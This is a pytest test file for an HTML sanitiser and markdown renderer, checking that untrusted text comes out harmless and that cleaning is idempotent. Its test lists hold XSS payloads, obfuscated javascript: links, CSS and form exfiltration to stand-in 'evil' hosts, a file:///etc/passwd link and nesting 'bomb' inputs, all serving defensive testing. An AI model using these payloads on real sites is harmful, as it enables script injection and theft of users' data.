"""What strangers wrote comes out harmless, and cleaning twice changes nothing."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.html import as_plain, clean, from_markdown, nesting, without_marks

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<https://evil.example/"onmouseover=alert(1)>',
]
FURNITURE = [
    "<style>*{background:url(//evil)}</style>",
    "<style>input[value^=a]{background:url(//evil)}</style>",
    "<base href='//evil'>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<link rel=stylesheet href=//evil>",
    "<form action='//evil'><input name=password></form>",
    "<p style='position:fixed' class='btn' id='main' name='x'>x</p>",
    "![x](//evil.example/pixel.png)",
]
SCHEMES = [
    "javascript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", " javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java&#x0a;script:alert(1)", "&#1;javascript:alert(1)", "javascript&colon;alert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/", "/\\evil.example/",
    "\\\\evil.example", "file:///etc/passwd", "blob:x", "feed:javascript:alert(1)",
]  # fmt: skip
FORBIDDEN = re.compile(
    r"<(script|style|base|meta|link|form|input|svg|math|img|iframe|noscript)"
    r"|\s(on\w+|style|class|id|name|src)=(?!\"plain\")"
)


def inside_tags(html):
    return "".join(f"<{part.split('>')[0]}>" for part in html.lower().split("<")[1:])


@pytest.mark.parametrize("text", SCRIPTS)
@pytest.mark.parametrize("door", [from_markdown, clean])
def test_mc01_no_script_survives(text, door):
    assert not FORBIDDEN.search(inside_tags(door(text))), door(text)


@pytest.mark.parametrize("text", FURNITURE)
@pytest.mark.parametrize("door", [from_markdown, clean])
def test_mc03_nobody_furnishes_our_page(text, door):
    assert not FORBIDDEN.search(inside_tags(door(text))), door(text)


@pytest.mark.parametrize("address", SCHEMES)
@pytest.mark.parametrize(
    "written", ["<a href='{}'>x</a>", "[x]({})", "[x](<{}>)", "<{}>", "[x]\n\n[x]: {}", "{}"]
)
@pytest.mark.parametrize("door", [from_markdown, clean])
def test_mc04_no_link_leads_into_a_trap(address, written, door):
    links = re.findall(r'href="([^"]*)"', door(written.format(address)))
    assert all(re.match(r"(https?://|mailto:|tel:|#)", link) for link in links), links


def test_markdown_keeps_what_people_use():
    html = from_markdown("**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~")
    for piece in ("<strong>bold</strong>", "<code>code</code>", "<li>one</li>", "<td>1</td>", "<s>old</s>"):
        assert piece in html


def test_a_line_break_stays_a_line_break():
    assert "<br" in from_markdown("one\ntwo")


def test_links_to_the_world_tell_nothing_of_us():
    assert 'rel="noopener noreferrer nofollow"' in from_markdown("[x](https://example.org)")


@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing(text):
    once = clean(text)
    assert clean(once) == once


@pytest.mark.parametrize(
    "bomb", ["<div>" * 20_000, "<b>" * 100_000, "> " * 5_000 + "x", "[" * 20_000, "*a " * 50_000]
)
def test_mc40_deep_and_long_text_costs_little(bomb):
    started = time.process_time()
    from_markdown(bomb)
    clean(bomb)
    assert time.process_time() - started < 10


def test_nesting_is_counted_without_parsing():
    assert nesting("<div><p>x</p><p>y</p></div>") == 2
    assert nesting("</p></p><b>") == 1


def test_plain_text_is_escaped():
    assert as_plain("<b>\n&") == '<p class="plain">&lt;b&gt;<br>&amp;</p>'


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Hold **F8**, then *wait*\n\n- one\n- two", "Hold F8, then wait one two"),
        ("See [the page](https://example.org) & `<b>`", "See the page & <b>"),
        ("2 * 3 < 7", "2 * 3 < 7"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ],
)
def test_the_without_marks_a_text_are_without_its_marks(text, words):
    assert without_marks(text) == words
